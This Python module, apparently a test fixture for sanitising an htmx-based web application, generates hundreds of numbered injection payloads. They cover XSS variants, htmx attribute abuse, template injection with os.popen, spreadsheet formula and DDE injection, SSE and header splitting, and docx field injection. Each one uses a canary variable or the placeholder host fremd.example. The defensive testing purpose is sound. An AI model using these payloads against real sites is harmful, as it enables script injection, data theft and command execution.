"""Words of our own that act where a page takes them for more than words, by family.

Each bears its number: run, it sets `window.gefangen` or opens a dialog; loaded, it asks for a path
of a host that nobody has.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass

HOST = "fremd.example"
RUN = "window.gefangen=@N@"
"""No quotes and no blanks: it stands in attributes of every kind."""
URL = f"http://{HOST}/@N@"
NUL, LRI, RLO, ZWSP, ZWJ, BOM = "\x00", "\u2066", "\u202e", "\u200b", "\u200d", "\ufeff"
SEPARATOR, NEL = "\u2028", "\x85"

FAMILIES: Mapping[str, Sequence[str]] = {
    "script": (
        "<script>@RUN@</script>",
        "<SCRIPT>@RUN@</SCRIPT>",
        "<script\n>@RUN@</script\n>",
        "<script/x>@RUN@</script>",
        "<script src=@URL@></script>",
        "<script src=//fremd.example/@N@></script>",
        "<script type=module>import '@URL@'</script>",
        "<script type=importmap>{}</script><script>@RUN@</script>",
        "<script>alert(@N@)</script>",
        "<scr<script>ipt>@RUN@</scr</script>ipt>",
        "</script><script>@RUN@</script>",
        "</title><script>@RUN@</script>",
        "</textarea><script>@RUN@</script>",
        "</style><script>@RUN@</script>",
        "</template><script>@RUN@</script>",
        "</noscript><script>@RUN@</script>",
        "<noscript><p title='</noscript><img src=x onerror=@RUN@>'>",
    ),
    "image": (
        "<img src=@URL@>",
        "<img src=x onerror=@RUN@>",
        "<IMG SRC=x OnErRoR=@RUN@>",
        "<img/src=x/onerror=@RUN@>",
        "<img srcset='@URL@ 1x'>",
        "<picture><source srcset=@URL@><img></picture>",
        "<image src=x onerror=@RUN@>",
        "<input type=image src=@URL@>",
        "<video poster=@URL@></video>",
        "<video><source onerror=@RUN@></video>",
        "<audio src=@URL@ autoplay></audio>",
        "<body background=@URL@>",
        "<table background=@URL@><tr><td>x</table>",
    ),
    "svg": (
        "<svg onload=@RUN@>",
        "<svg><script>@RUN@</script></svg>",
        "<svg><script href=@URL@ /></svg>",
        "<svg><image href=@URL@ /></svg>",
        "<svg><use href=@URL@#x /></svg>",
        "<svg><a href=javascript:@RUN@><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=@RUN@ attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:@RUN@ />",
        "<svg><foreignObject><img src=x onerror=@RUN@></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=@RUN@>",
        "<math href=javascript:@RUN@>x</math>",
    ),
    "frame": (
        "<iframe src=@URL@></iframe>",
        "<iframe src=javascript:parent.gefangen=@N@></iframe>",
        "<iframe srcdoc='<script>parent.gefangen=@N@</script>'></iframe>",
        "<iframe onload=@RUN@></iframe>",
        "<frameset onload=@RUN@>",
        "<object data=@URL@></object>",
        "<object data=javascript:@RUN@></object>",
        "<embed src=@URL@>",
        "<portal src=@URL@></portal>",
    ),
    "page": (
        "<base href=@URL@/>",
        "<meta http-equiv=refresh content='0;url=@URL@'>",
        "<meta http-equiv=refresh content='0;url=javascript:@RUN@'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">@N@",
        "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>@N@",
        "<link rel=stylesheet href=@URL@>",
        "<link rel=preload as=image href=@URL@>",
        "<link rel=prefetch href=@URL@>",
        "<link rel=modulepreload href=@URL@>",
        "<link rel=dns-prefetch href=//fremd.example/@N@>",
        "</main></body></html><script>@RUN@</script>",
    ),
    "form": (
        "<form action=@URL@><button autofocus>weiter</button></form>",
        "<form action=javascript:@RUN@><input type=submit></form>",
        "<button formaction=@URL@ form=suchform>x</button>",
        "<button formaction=javascript:@RUN@>x</button>",
        "<input form=suchform name=q value=@N@ onfocus=@RUN@ autofocus>",
        "<isindex type=image src=@URL@>",
        "<keygen autofocus onfocus=@RUN@>",
    ),
    "style": (
        "<style>@import '@URL@';</style>",
        "<style>body{background:url(@URL@)}</style>",
        "<p style=background:url(@URL@)>x</p>",
        "<p style='background:image-set(\"@URL@\" 1x)'>x</p>",
        "<style>@font-face{font-family:x;src:url(@URL@)}*{font-family:x}</style>",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=@RUN@>",
        "<p style=transition:1s ontransitionend=@RUN@>@N@",
    ),
    "handler": (
        "<body onload=@RUN@>",
        "<input autofocus onfocus=@RUN@>",
        "<p tabindex=1 onfocusin=@RUN@ autofocus>x",
        "<details open ontoggle=@RUN@>",
        "<p onpointerenter=@RUN@ onmouseover=@RUN@>x",
        "<marquee onstart=@RUN@>x</marquee>",
        "<a onclick=@RUN@ href=#>x</a>",
        "<p oncontentvisibilityautostatechange=@RUN@ style=content-visibility:auto>x",
        "<input onbeforeinput=@RUN@ autofocus>",
        "<dialog open onclose=@RUN@><form method=dialog><button autofocus>x",
        "<p popover id=p@N@ onbeforetoggle=@RUN@>x<button popovertarget=p@N@>x",
        "<x onscrollsnapchange=@RUN@ onwheel=@RUN@>x",
    ),
    "address": (
        "javascript:@RUN@",
        "JaVaScRiPt:@RUN@",
        " javascript:@RUN@",
        "java\tscript:@RUN@",
        "javascript://%0a@RUN@",
        "javascript&colon;@RUN@",
        "<a href=javascript:@RUN@>x</a>",
        "<a href='java&#10;script:@RUN@'>x</a>",
        "<a href=data:text/html,<script>@RUN@</script>>x</a>",
        "data:text/html,<script>opener.gefangen=@N@</script>",
        "vbscript:@N@",
        "//fremd.example/@N@",
        "@URL@",
        "<a href=@URL@ ping=@URL@ target=_top>x</a>",
    ),
    "markdown": (
        "![x](@URL@)",
        "[x](@URL@)",
        "[x](javascript:@RUN@)",
        "![x][b@N@]\n\n[b@N@]: @URL@",
        "[x][b@N@]\n\n[b@N@]: javascript:@RUN@",
        "<@URL@>",
        '![x](@URL@ "t" onerror=@RUN@)',
        "[![x](@URL@)](@URL@)",
        "```html\n<script>@RUN@</script>\n```",
        "[x](data:text/html;base64,PHNjcmlwdD4=)@N@",
        "| <img src=@URL@> |\n|---|",
        "[^@N@]: <img src=x onerror=@RUN@>",
    ),
    "htmx": (
        "<div hx-get=@URL@ hx-trigger=load>x</div>",
        "<div hx-get=/verwaltung hx-trigger=load hx-target=body>@N@</div>",
        '<form hx-post=/fragen/loeschen hx-trigger="load">@N@</form>',
        "<div hx-on:htmx:after:init=@RUN@ hx-get=/ hx-trigger=load>x</div>",
        "<div hx-on:click=@RUN@>x</div>",
        "<div hx-trigger='load[@RUN@]' hx-get=/>x</div>",
        "<div hx-vals='js:{x:@RUN@}' hx-get=/ hx-trigger=load>x</div>",
        "<hx-partial hx-target=body><script>@RUN@</script></hx-partial>",
        "</hx-partial><hx-partial hx-target='#inhalt' hx-swap=innerHTML>@N@<img src=@URL@>",
        "<template partial hx-target=body><img src=@URL@></template>",
        "<div hx-sse:connect=@URL@>x</div>",
        "<div hx-ws:connect=ws://fremd.example/@N@>x</div>",
        "<div hx-boost=true><a href=@URL@>x</a></div>",
        "<div hx-swap-oob=innerHTML:body>@N@<img src=@URL@></div>",
        "<div hx-config='{\"credentials\":\"include\"}' hx-get=@URL@ hx-trigger=load>",
        "<div data-hx-get=@URL@ data-hx-trigger=load>x</div>",
    ),
    "template": (
        "{{ 7 * 7 }}@N@",
        "{{ config }}{{ ''.__class__.__mro__ }}@N@",
        "{% for x in ().__class__.__base__.__subclasses__() %}@N@{% endfor %}",
        "{# @N@ #}{% raw %}",
        "{{ lipsum.__globals__.os.popen('true') }}@N@",
        "${7*7}@N@",
        "#{7*7}@N@",
        "<%= 7 * 7 %>@N@",
        "{{constructor.constructor('@RUN@')()}}",
        "{mandant} {n} {0.__class__} %(n)s %s@N@",
        "$& $1 $` \\1 \\g<0>@N@",
    ),
    "entity": (
        "&lt;script&gt;@RUN@&lt;/script&gt;",
        "&#60;img src=x onerror=@RUN@&#62;",
        "&#x3c;img src=@URL@&#x3e;",
        "&lt;img src=x onerror=@RUN@//",
        "&amp;lt;img src=x onerror=@RUN@&amp;gt;",
        "&NewLine;javascript&Tab;:@RUN@",
        "&quot;><img src=x onerror=@RUN@>",
        "%3Cscript%3E@RUN@%3C/script%3E",
        "\\u003cscript\\u003e@RUN@\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=@RUN@\\x3e",
        "+ADw-script+AD4-@RUN@+ADw-/script+AD4-",
    ),
    "comment": (
        "<!--><img src=x onerror=@RUN@>-->",
        "--><script>@RUN@</script><!--",
        "<!-- @N@ --!><img src=x onerror=@RUN@>",
        "<![CDATA[<script>@RUN@</script>]]>",
        "]]><script>@RUN@</script><![CDATA[",
        "<?xml-stylesheet href='@URL@'?><img src=x onerror=@RUN@>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM '@URL@'>]>&e;",
        "<!--[if IE]><script>@RUN@</script><![endif]-->",
    ),
    "broken": (
        "<img src=x onerror=@RUN@",
        "<<script>@RUN@//<</script>",
        "<script>@RUN@",
        "<img src='x' onerror='@RUN@",
        "< script >@RUN@</ script >",
        "<a/<img src=x onerror=@RUN@>",
        "<table><td><img src=x onerror=@RUN@></table>",
        "<select><option><img src=x onerror=@RUN@></select>",
        "<xmp><p title='</xmp><img src=x onerror=@RUN@>'>",
        "<plaintext>@N@",
    ),
    "attribute": (
        '" onmouseover="@RUN@',
        '" autofocus onfocus="@RUN@',
        '"><script>@RUN@</script>',
        '"><img src=x onerror=@RUN@>',
        "' onmouseover='@RUN@",
        "' autofocus onfocus='@RUN@",
        "'><img src=x onerror=@RUN@>",
        "` onmouseover=`@RUN@",
        "`><img src=x onerror=@RUN@>",
        " onfocus=@RUN@ autofocus ",
        '" style="background:url(@URL@)',
        '" src="@URL@',
        "\\\"><img src=x onerror=@RUN@>",
        '";@RUN@;//',
        "';@RUN@;//",
        "</a><svg onload=@RUN@>",
    ),
    "letters": (
        f"{RLO}<img src=x onerror=@RUN@>",
        f"{LRI}<script>@RUN@</script>",
        "\uff1cscript\uff1e@RUN@\uff1c/script\uff1e",
        "\uff1cimg src=@URL@\uff1e",
        f"<scr{ZWSP}ipt>@RUN@</scr{ZWSP}ipt>",
        f"<img{ZWJ} src=x onerror=@RUN@>",
        f"{BOM}<script>@RUN@</script>",
        "\u02c2script\u02c3@RUN@",
        "\ufe64script\ufe65@RUN@",
        "<\u0131mg src=x onerror=@RUN@>",
        "<\u017fcript>@RUN@</\u017fcript>",
        f"{SEPARATOR}<img src=x onerror=@RUN@>",
        f"{NEL}<img src=x onerror=@RUN@>",
        "\U000e003cscript\U000e003e@N@",
    ),
    "null": (
        f"<scr{NUL}ipt>@RUN@</scr{NUL}ipt>",
        f"{NUL}<img src=x onerror=@RUN@>",
        f"<img src=x{NUL} onerror=@RUN@>",
        f"java{NUL}script:@RUN@",
        "%00<script>@RUN@</script>",
        "\x1b]0;@N@\x07<img src=x onerror=@RUN@>",
        "\x0b<img src=x\x0conerror=@RUN@>",
    ),
    "stream": (
        "x\n\nevent: ende\ndata: <img src=x onerror=@RUN@>\n\n",
        "x\n\ndata: <script>@RUN@</script>\n\n",
        "x\r\rdata: <img src=@URL@>\r\r",
        "x\r\n\r\ndata: <hx-partial hx-target=body><img src=@URL@></hx-partial>\r\n\r\n",
        "x\nid: 9\nretry: 1\ndata: <svg onload=@RUN@>",
        f"x{SEPARATOR}{SEPARATOR}data: <img src=x onerror=@RUN@>",
        "x\n\n: @N@\n\nevent: hx:release\ndata: x\n\n",
        "x\r\nSet-Cookie: farben=@N@\r\nLocation: @URL@\r\n\r\n<script>@RUN@</script>",
    ),
    "formula": (
        '=HYPERLINK("@URL@";"x")',
        "=WEBSERVICE(\"@URL@\")",
        "=cmd|' /C calc'!A@N@",
        "+1+cmd|'/C calc'!A@N@",
        "-2+3+cmd|'/C calc'!A@N@",
        "@SUM(1+@N@)",
        "\t=IMPORTXML(\"@URL@\";\"x\")",
        "\r=1+@N@",
        "\n=1+@N@",
        " =1+@N@",
        "\uff1d1+@N@",
        "x;=1+@N@",
        'x"\r\n=1+@N@',
        "DDEAUTO c:\\\\x.exe @N@",
    ),
    "docx": (
        "</w:t></w:r><w:r><w:t>@N@</w:t></w:r>",
        '</w:t><w:hyperlink r:id="rId@N@" />',
        '<w:fldSimple w:instr="INCLUDEPICTURE @URL@" />',
        '<w:instrText>DDEAUTO c:\\\\x.exe "@N@"</w:instrText>',
        '<w:altChunk r:id="rId@N@" />',
        '<Relationship TargetMode="External" Target="@URL@" />',
        "]]></w:t><w:object/>@N@",
        "{ INCLUDETEXT \"@URL@\" }",
        "{ HYPERLINK javascript:@RUN@ }",
        "<text:a xlink:href='@URL@'>x</text:a>",
    ),
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Payload:
    """One of them; `number` is what it leaves behind."""

    number: int
    family: str
    text: str

    @property
    def letters(self) -> str:
        """What of it can be read: neither blanks nor what has no shape."""
        return letters_of(self.text)


def letters_of(text: str) -> str:
    """A text without blanks and without characters that show nothing."""
    return "".join(char for char in text if char.isprintable() and not char.isspace())


def _all() -> tuple[Payload, ...]:
    found: list[Payload] = []
    for family, templates in FAMILIES.items():
        for template in templates:
            number = 1001 + len(found)
            text = template.replace("@RUN@", RUN).replace("@URL@", URL).replace("@N@", str(number))
            found.append(Payload(number, family, text))
    return tuple(found)


PAYLOADS = _all()


def packed(size: int) -> tuple[tuple[Payload, ...], ...]:
    """All of them in groups, for places that take several; each group is of many families."""
    count = -(-len(PAYLOADS) // size)
    return tuple(PAYLOADS[start::count] for start in range(count))
